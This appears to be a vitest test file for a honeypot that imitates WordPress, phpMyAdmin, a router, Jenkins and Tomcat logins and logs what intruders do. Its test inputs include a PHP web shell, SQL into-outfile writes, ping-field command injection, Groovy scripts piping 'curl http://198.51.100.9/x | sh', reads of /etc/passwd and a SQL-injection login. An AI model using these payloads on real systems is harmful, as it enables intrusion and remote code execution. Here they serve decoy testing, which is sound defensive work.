/** What is behind the log-ins: everything typed there is told, every file is taken, nothing runs. */
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Served, serveDecoy } from '../host.test-suite.ts';
import { http } from './decoy.ts';
import { commandsIn } from './inside/jenkins.ts';
import { ask } from './probe.test-suite.ts';

let served: Served;
beforeAll(async () => {
  served = await serveDecoy(http, { software: 'nginx', accept: 'list', accounts: ['admin:pw'] });
});
afterAll(() => served.stop());

interface Request {
  form?: Record<string, string>;
  body?: string;
  type?: string;
  headers?: string[];
  method?: string;
}

async function send(target: string, { form, body = '', type, headers = [], method }: Request = {}) {
  const from = served.records.length;
  const sent = form === undefined ? body : new URLSearchParams(form).toString();
  const kind = type ?? (form === undefined ? undefined : 'application/x-www-form-urlencoded');
  const { text } = await ask(
    served.port,
    [
      `${method ?? (sent === '' ? 'GET' : 'POST')} ${target} HTTP/1.1`,
      'Host: x',
      ...headers,
      ...(kind === undefined ? [] : [`Content-Type: ${kind}`]),
      ...(sent === '' ? [] : [`Content-Length: ${Buffer.byteLength(sent, 'latin1')}`]),
      'Connection: close',
      '',
      sent,
    ].join('\r\n'),
    10_000,
  );
  const told = served.records.slice(from);
  const cookies = [...text.matchAll(/^Set-Cookie: ([^;\r]*)/gim)].map(([, cookie]) => cookie).join('; ');
  const typed = told.filter(({ event_type, fields }) => event_type === 'decoy.command' && fields?.mode !== 'exec');
  return {
    told,
    text,
    status: Number(/^HTTP\/1\.1 (\d+)/.exec(text)?.[1]),
    cookies,
    typed: typed.map(({ fields }) => fields),
  };
}
const logins = (told: Served['records']) =>
  told
    .filter(({ event_type }) => event_type === 'decoy.login')
    .map(({ user, outcome, fields }) => [user, fields?.password, outcome, fields?.method]);
const basic = [`Authorization: Basic ${Buffer.from('admin:pw').toString('base64')}`];
const multipart = (name: string, file: string, content: string): Request => ({
  type: 'multipart/form-data; boundary=BB',
  body: `--BB\r\nContent-Disposition: form-data; name="_wpnonce"\r\n\r\n1\r\n--BB\r\nContent-Disposition: form-data; name="${name}"; filename="${file}"\r\nContent-Type: application/zip\r\n\r\n${content}\r\n--BB--\r\n`,
});

describe('WordPress', () => {
  const enter = (pwd: string) => send('/wp-login.php', { form: { log: 'admin', pwd, 'wp-submit': 'Log In' } });

  test('the wrong password is refused, the right one opens the dashboard, and without its cookie it stays shut', async () => {
    const refused = await enter('nope');
    expect(refused.status).toBe(200);
    expect(refused.text).toContain('is incorrect');
    expect(logins(refused.told)).toEqual([['admin', 'nope', 'failure', 'form']]);

    const let_ = await enter('pw');
    expect(let_.status).toBe(302);
    expect(let_.text).toMatch(/^Location: http:\/\/x\/wp-admin\/\r$/m);
    expect(logins(let_.told)).toEqual([['admin', 'pw', 'success', 'form']]);
    const home = await send('/wp-admin/', { headers: [`Cookie: ${let_.cookies}`] });
    expect(home.status).toBe(200);
    expect(home.text).toContain('<h1 class="wp-heading-inline">Dashboard</h1>');
    expect(home.told[0]).toMatchObject({ event_type: 'decoy.request', user: 'admin' });
    expect(served.facts).toContainEqual({ user: 'admin' });
    expect((await send('/wp-admin/')).status).toBe(302);
    expect((await send('/phpmyadmin/', { headers: [`Cookie: ${let_.cookies}`] })).text).toContain('Welcome to');

    await send('/wp-login.php?action=logout', { headers: [`Cookie: ${let_.cookies}`] });
    expect((await send('/wp-admin/', { headers: [`Cookie: ${let_.cookies}`] })).status).toBe(302);
  });

  test('an edited theme, a new user and an uploaded plugin are told and kept', async () => {
    const headers = [`Cookie: ${(await enter('pw')).cookies}`];
    const code = '<?php system($_GET["c"]); // \u00e4';
    const edited = await send('/wp-admin/theme-editor.php', {
      headers,
      form: { action: 'update', file: '404.php', theme: 'astra', newcontent: code },
    });
    expect(edited.text).toContain('File edited successfully.');
    expect(edited.typed).toEqual([
      expect.objectContaining({ mode: 'edit', command: code, file_name: 'wp-content/themes/astra/404.php' }),
    ]);
    expect(served.uploads.at(-1)).toMatchObject({
      name: 'wp-content/themes/astra/404.php',
      content: Buffer.from(code),
    });

    const made = await send('/wp-admin/user-new.php', {
      headers,
      form: { action: 'createuser', user_login: 'evil', pass1: 'p1', role: 'administrator' },
    });
    expect(made.typed).toEqual([
      expect.objectContaining({ mode: 'account', target_user: 'evil', password: 'p1', role: 'administrator' }),
    ]);
    expect(made.told[0]?.fields?.body).toContain('pass1=***');
    expect(logins(made.told)).toEqual([]);

    // Longer than what is kept of an ordinary body.
    const zip = `PK\x03\x04${'\xfe\0\r\n'.repeat(100_000)}`;
    const sent = await send('/wp-admin/update.php?action=upload-plugin', {
      ...multipart('pluginzip', 'seo-tool.zip', zip),
      headers,
    });
    expect(sent.text).toContain('Plugin installed successfully.');
    const bytes = Buffer.from(zip, 'latin1');
    expect(served.uploads.at(-1)).toMatchObject({
      name: 'seo-tool.zip',
      via: 'http',
      sha256: createHash('sha256').update(bytes).digest('hex'),
    });
    expect(sent.told[0]?.fields?.body_bytes).toBeGreaterThan(400_000);
  });

  test('XML-RPC tells every password of a multicall, and which was right', async () => {
    const call = (password: string): string =>
      `<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value><array><data><value><string>admin</string></value><value><string>${password}</string></value></data></array></value></data></array></value></member></struct></value>`;
    const { told, text } = await send('/xmlrpc.php', {
      type: 'text/xml',
      body: `<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>${['a', 'b&amp;', 'pw'].map(call).join('')}</data></array></value></param></params></methodCall>`,
    });
    expect(logins(told)).toEqual([
      ['admin', 'a', 'failure', 'xmlrpc'],
      ['admin', 'b&', 'failure', 'xmlrpc'],
      ['admin', 'pw', 'success', 'xmlrpc'],
    ]);
    expect(text.match(/faultCode/g)).toHaveLength(2);
    expect(text.match(/isAdmin/g)).toHaveLength(1);
  });
});

describe('phpMyAdmin', () => {
  test.each([
    ['SELECT VERSION()', /MariaDB-0\+deb12u/],
    ['SHOW DATABASES', /information_schema/],
    ["SELECT '<?php eval($_POST[1]);' INTO OUTFILE '/var/www/html/x.php'", /#1290 - .*--secure-file-priv/],
    ['SELECT user_login FROM wp_users', /No database selected/],
    ['SELECT * FROM nope.x', /#1049 - Unknown database 'nope'/],
    ["SHOW VARIABLES LIKE '%secure_file%'", /secure_file_priv<\/td><td>/],
    ['CREATE TABLE pwn (a TEXT)', /empty result set/],
    ["SET GLOBAL general_log_file = '/var/www/x.php'", /empty result set/],
    ['FROB x', /#1064 - You have an error/],
    ['<b>x', /&lt;b&gt;x/],
  ])('%s is told and answered', async (sql, answer) => {
    const let_ = await send('/phpmyadmin/index.php?route=/', {
      form: { pma_username: 'admin', pma_password: 'pw', server: '1' },
    });
    expect(let_.status).toBe(302);
    const { typed, text } = await send('/phpmyadmin/index.php?route=/import', {
      headers: [`Cookie: ${let_.cookies}`],
      form: { sql_query: sql, db: '', token: 'x' },
    });
    expect(text).toMatch(answer);
    expect(text).not.toContain('<b>x');
    expect(typed).toEqual([expect.objectContaining({ mode: 'sql', command: sql, lure: 'phpmyadmin' })]);
  });
});

describe('router', () => {
  test('its password opens the status page, and is told once', async () => {
    const shut = await send('/userRpm/StatusRpm.htm');
    expect(shut.status).toBe(401);
    const open = await send('/userRpm/StatusRpm.htm', { headers: basic });
    expect(open.text).toContain('Firmware Version:');
    expect(logins(open.told)).toEqual([['admin', 'pw', 'success', 'basic']]);
    expect(logins((await send('/userRpm/DiagnosticRpm.htm', { headers: basic })).told)).toEqual([]);
  });

  test('what is typed into the box that pings goes to the imitated shell', async () => {
    const { typed, told, text } = await send('/userRpm/PingIframeRpm.htm', {
      headers: basic,
      form: { doType: 'ping', ping_addr: '198.51.100.7; id; wget http://198.51.100.9/m.sh -O /tmp/m' },
    });
    expect(text).toMatch(/100% packet loss/);
    expect(text).toContain('uid=0(root)');
    expect(typed).toEqual([
      expect.objectContaining({ mode: 'ping', command: '198.51.100.7; id; wget http://198.51.100.9/m.sh -O /tmp/m' }),
    ]);
    const by = (type: string) => told.filter(({ event_type }) => event_type === type).map(({ fields }) => fields);
    expect(by('decoy.forward')).toEqual([expect.objectContaining({ kind: 'ping', dst_host: '198.51.100.7' })]);
    expect(by('decoy.download')).toEqual([
      expect.objectContaining({ url: 'http://198.51.100.9/m.sh', destination: '/tmp/m' }),
    ]);
    // What one visitor leaves on the disk is there for them and for nobody else.
    const left = await send('/userRpm/PingIframeRpm.htm?cmd=echo+hello+%3E+/tmp/left%3B+cat+/tmp/left', {
      headers: basic,
    });
    expect(left.text).toContain('hello');
    expect(served.uploads.at(-1)).toMatchObject({ name: '/tmp/left', via: 'shell' });
    expect((await send('/shell.php?cmd=cat+/tmp/left')).text).toContain('No such file');
  });
});

describe('Jenkins', () => {
  test('the script console tells the script, and answers what it runs', async () => {
    const let_ = await send('/jenkins/j_spring_security_check', { form: { j_username: 'admin', j_password: 'pw' } });
    expect(let_.text).toMatch(/^Location: http:\/\/x\/jenkins\/\r$/m);
    const headers = [`Cookie: ${let_.cookies}`];
    expect((await send('/jenkins/', { headers })).text).toContain('projectstatus');
    const script = 'println "uname -s".execute().text';
    const ran = await send('/jenkins/script', { headers, form: { script, Submit: 'Run' } });
    expect(ran.text).toContain('<pre>Linux\n</pre>');
    expect(ran.typed).toEqual([expect.objectContaining({ mode: 'groovy', command: script })]);
    // With a password and without a cookie, as programs do.
    const direct = await send('/scriptText', { headers: basic, form: { script: 'println(6*7)' } });
    expect(direct.text).toMatch(/\r\n42\n/);
    const job = await send('/jenkins/createItem?name=x', {
      headers,
      type: 'application/xml',
      body: '<project><builders/></project>',
    });
    expect(job.typed).toEqual([expect.objectContaining({ mode: 'job' })]);
    expect(served.uploads.at(-1)).toMatchObject({ name: 'x/config.xml' });
  });

  test.each([
    ['"id".execute()', ['id']],
    ["['/bin/bash','-c','curl http://198.51.100.9/x | sh'].execute()", ['curl http://198.51.100.9/x | sh']],
    ['Runtime.getRuntime().exec("wget http://198.51.100.9/a")', ['wget http://198.51.100.9/a']],
    ['new ProcessBuilder("sh","-c","echo \\"a b\\"").start()', ['echo "a b"']],
    ['def cmd = "cat /etc/passwd"; println cmd.execute().text', ['cat /etc/passwd']],
    ['["rm","-rf","it\'s"].execute()', ["rm -rf 'it'\\''s'"]],
    ['println "nothing"', []],
  ])('%s', (script, commands) => {
    expect(commandsIn(script)).toEqual(commands);
  });

  test('no script takes long to look at', () => {
    const from = performance.now();
    for (const script of [
      '"'.repeat(30_000),
      "['a',".repeat(6000),
      'exec('.repeat(6000),
      `${'a.execute('.repeat(3000)}`,
      '"\\'.repeat(15_000),
    ])
      commandsIn(script);
    expect(performance.now() - from).toBeLessThan(3000);
  });
});

test("Tomcat's manager takes a WAR", async () => {
  const { text, typed } = await send('/manager/html/upload', {
    ...multipart('deployWar', 'cmd.war', 'PK\x03\x04war'),
    headers: basic,
  });
  expect(text).toContain('OK - Deployed application at context path [/cmd]');
  expect(typed).toEqual([expect.objectContaining({ mode: 'deploy', path: '/cmd' })]);
  expect(served.uploads.at(-1)).toMatchObject({ name: 'cmd.war', content: Buffer.from('PK\x03\x04war') });
  const put = await send('/manager/text/deploy?path=/x', { headers: basic, method: 'PUT', body: 'PK' });
  expect(put.text).toContain('OK - Deployed application at context path [/x]');
});

test("the firm's own administration lets in, but no injection", async () => {
  const turned = await send('/admin', { form: { username: "' or 1=1 --", password: 'pw' } });
  expect(turned.status).toBe(403);
  const let_ = await send('/admin', { form: { username: 'admin', password: 'pw' } });
  expect(let_.status).toBe(302);
  const found = await send('/admin/customers?q=kunde', { headers: [`Cookie: ${let_.cookies}`] });
  expect(found.text).toContain('@example.com');
  expect(found.typed).toEqual([expect.objectContaining({ mode: 'search', command: 'kunde' })]);
});

test('a web shell that others seem to have left runs in the imitated machine', async () => {
  const { text, typed, told } = await send('/shell.php', { form: { cmd: 'id; curl -s http://198.51.100.9/w' } });
  expect(text).toContain('uid=33(www-data)');
  expect(typed).toEqual([expect.objectContaining({ mode: 'webshell' })]);
  expect(told.filter(({ event_type }) => event_type === 'decoy.download')).toHaveLength(1);
});

test('requests behind one that takes its time are answered in their order', async () => {
  const get = (target: string): string => `GET ${target} HTTP/1.1\r\nHost: x\r\n\r\n`;
  const { text } = await ask(
    served.port,
    get('/shell.php?cmd=sleep+1;echo+first') +
      get('/robots.txt') +
      get('/nothing-here').replace('\r\n\r\n', '\r\nConnection: close\r\n\r\n'),
    10_000,
  );
  const at = ['first', 'User-agent', '404 Not Found'].map((each) => text.indexOf(each));
  expect(at.every((each) => each >= 0)).toBe(true);
  expect([...at].sort((a, b) => a - b)).toEqual(at);
});

test('by itself, an address gets in after three failures, with what it tried then', async () => {
  const own = await serveDecoy(http, { software: 'nginx' });
  try {
    const login = (pwd: string): Promise<{ text: string }> => {
      const body = `log=root&pwd=${pwd}`;
      return ask(
        own.port,
        `POST /wp-login.php HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`,
        3000,
      );
    };
    const outcomes: boolean[] = [];
    for (const pwd of ['1', '2', '3', '4', '5', '4']) outcomes.push((await login(pwd)).text.includes(' 302 '));
    expect(outcomes).toEqual([false, false, false, true, false, true]);
  } finally {
    await own.stop();
  }
});
